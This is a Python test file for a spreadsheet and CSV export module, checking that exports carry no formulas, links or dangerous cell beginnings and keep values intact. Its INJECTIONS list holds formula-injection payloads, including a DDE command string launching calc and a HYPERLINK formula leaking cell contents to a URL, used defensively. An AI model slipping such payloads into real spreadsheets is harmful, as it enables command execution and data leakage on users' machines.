import csv
import io
import tempfile
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.worksheet.worksheet import Worksheet

from kabinet.core import sheets
from kabinet.core.sheets import Column

KINDS: tuple[sheets.Kind, ...] = ("text", "date", "number", "money")
COLUMNS = [Column(title=kind, width=12, kind=kind) for kind in KINDS]
INJECTIONS = [
    '=HYPERLINK("http://example.org/?"&A1,"Аида")',
    "=1+1",
    "+996555204118",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\x00=1+1",
    "\x01=1+1",
    "\x1f@SUM(A1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "=cmd|'/c calc'!A1",
    "|cmd",
    "%0A=1",
    "{=1+1}",
    "http://example.org/",
    "mailto:a@example.org",
    "internal:Sheet1!A1",
    "external:c:\\a.xlsx",
    "'=1+1",
    '";=1+1;"',
    "a,=1+1",
    "=1+1\r\n=2+2",
    "_x003D_1+1",
    "<f>1+1</f>",
    "0555204118",
    "TRUE",
    "1E5",
    "#N/A",
]


def _open(content: bytes) -> Worksheet:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert isinstance(sheet, Worksheet)
    return sheet


def _cells(content: bytes) -> list[list[object]]:
    return [list(row) for row in _open(content).iter_rows(values_only=True)]


def _csv_rows(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("place", range(4))
def test_sheet_has_no_formula_whatever_was_typed(kind: sheets.Kind, place: int) -> None:
    columns = [Column(title=text, kind=kind) for text in INJECTIONS[:4]]
    rows = [[text if column == place else "x" for column in range(4)] for text in INJECTIONS]
    cells = [cell for row in _open(sheets.write_sheet(columns, rows, title="=1+1")) for cell in row]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.hyperlink for cell in cells if cell.hyperlink] == []


def test_sheet_holds_no_formula_or_link_part_at_all() -> None:
    content = sheets.write_sheet(COLUMNS, [[text] * 4 for text in INJECTIONS], title="=1+1")
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml")
        names = parts.namelist()
    assert (b"<f>" in sheet, b"<hyperlink" in sheet) == (False, False)
    assert [name for name in names if "external" in name.lower() or "_rels/sheet" in name] == []


def test_sheet_marks_dangerous_text_so_that_editing_keeps_it_text() -> None:
    sheet = _open(sheets.write_sheet([Column("A")], [["=1+1"], ["Аида"]], title="A"))
    marks = [sheet.cell(row=row, column=1).quotePrefix for row in (2, 3)]
    assert marks == [True, False]


@settings(max_examples=40)
@given(st.lists(st.text(max_size=20), min_size=4, max_size=4))
def test_sheet_of_any_text_opens_and_says_the_same(texts: list[str]) -> None:
    rows = _cells(sheets.write_sheet(COLUMNS, [texts], title="A"))
    # Reading XML turns every line end into \n; the writer must not do more than that.
    expected = [sheets.clean_text(text) or None for text in texts]
    read = rows[1] if len(rows) > 1 else [None] * 4
    assert read == expected


def test_sheet_keeps_plus_and_zeros() -> None:
    content = sheets.write_sheet(
        [Column("Телефон")], [["+996555204118"], ["0555204118"]], title="A"
    )
    assert _cells(content) == [["Телефон"], ["+996555204118"], ["0555204118"]]
    assert _open(content).cell(row=2, column=1).number_format == "@"


def test_sheet_writes_each_kind_as_what_it_is() -> None:
    row = ["Аида", date(2026, 2, 19), 7, 100_050]
    sheet = _open(sheets.write_sheet(COLUMNS, [row], title="A"))
    cells = [sheet.cell(row=2, column=column) for column in range(1, 5)]
    assert [cell.value for cell in cells] == ["Аида", datetime(2026, 2, 19), 7, 1000.5]  # noqa: DTZ001
    assert [cell.number_format for cell in cells] == ["@", "dd.mm.yyyy", "General", "#,##0.00"]


def test_sheet_header_is_bold_and_frozen_and_columns_are_wide() -> None:
    sheet = _open(sheets.write_sheet([Column("ФИО", width=40)], [], title="Доступы"))
    assert (sheet.title, sheet.freeze_panes) == ("Доступы", "A2")
    assert sheet["A1"].font.bold is True
    assert round(sheet.column_dimensions["A"].width) == 41  # Excel adds the padding of a cell


def test_sheet_writes_odd_values_as_text() -> None:
    rows: list[list[object]] = [
        [None, None, None, None],
        [True, date(1880, 1, 1), float("nan"), 10**20],
        [5, datetime(2026, 2, 19, 9, 5, tzinfo=UTC), Decimal("1.25"), "нет"],
    ]
    assert _cells(sheets.write_sheet(COLUMNS, rows, title="A"))[2:] == [
        ["True", "01.01.1880", "nan", "1\N{NO-BREAK SPACE}000" + "\N{NO-BREAK SPACE}000" * 5],
        ["5", datetime(2026, 2, 19, 9, 5), 1.25, "нет"],  # noqa: DTZ001
    ]


def test_sheet_row_of_the_wrong_length_is_refused() -> None:
    with pytest.raises(ValueError, match="zip"):
        sheets.write_sheet(COLUMNS, [["a"]], title="A")


def test_sheet_leaves_no_temporary_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """First passwords are in it: a directory that cannot be written to must be no hindrance."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "absent"))
    assert _cells(sheets.write_sheet([Column("A")], [["4827193605"]], title="A"))[1] == [
        "4827193605"
    ]


@pytest.mark.parametrize(
    ("title", "shown"),
    [
        ("Доступы выпускников", "Доступы выпускников"),
        ("Школа №5 [Ош] / 2026: *?", "Школа №5 Ош 2026"),
        ("'", "1"),
        ("", "1"),
        ("Н" * 40, "Н" * 31),
        ("😀" * 20, "😀" * 15),
    ],
)
def test_sheet_title_is_made_fit(title: str, shown: str) -> None:
    assert _open(sheets.write_sheet([Column("A")], [], title=title)).title == shown


@settings(max_examples=40)
@given(st.text(max_size=40))
def test_sheet_takes_any_title(title: str) -> None:
    shown = _open(sheets.write_sheet([Column("A")], [], title=title)).title
    assert 1 <= len(shown.encode("utf-16-le")) // 2 <= 31


@pytest.mark.parametrize("letter", ["я", "😀"])
def test_clean_text_is_cut_to_what_a_cell_takes(letter: str) -> None:
    cut = sheets.clean_text(letter * 40_000)
    assert len(cut.encode("utf-16-le")) // 2 <= 32_767
    assert cut == letter * (len(cut) - 1) + "…"


def test_clean_text_drops_what_excel_calls_damage() -> None:
    assert sheets.clean_text("А\x00и\x0bд\ud800а\uffff\n\t!") == "Аида\n\t!"


def test_csv_prefixes_every_dangerous_beginning() -> None:
    rows = _csv_rows(sheets.write_csv(COLUMNS, [[text] * 4 for text in INJECTIONS]))[1:]
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@＝＋－＠|%")] == []
    assert [cell for cell in cells if cell[:1] in ("\t", "\r", "\n", "\x00")] == []
    assert len(cells) == 4 * len(INJECTIONS)


@given(st.text())
def test_csv_of_any_text_is_one_harmless_cell(text: str) -> None:
    [header, row] = _csv_rows(sheets.write_csv([Column("=A")], [[text]]))
    assert (header, len(row)) == (["'=A"], 1)
    assert row[0].lstrip()[:1] not in tuple("=+-@")


def test_csv_is_what_excel_here_expects() -> None:
    row = ["Аида; Ош", date(2026, 2, 19), -7, 100_050]
    assert sheets.write_csv(COLUMNS, [row, [None, None, 1.5, None]]) == (
        b"\xef\xbb\xbf"
        + '"text";"date";"number";"money"\r\n'
        '"Аида; Ош";"19.02.2026";"-7";"1000,5"\r\n'
        '"";"";"1,5";""\r\n'.encode()
    )
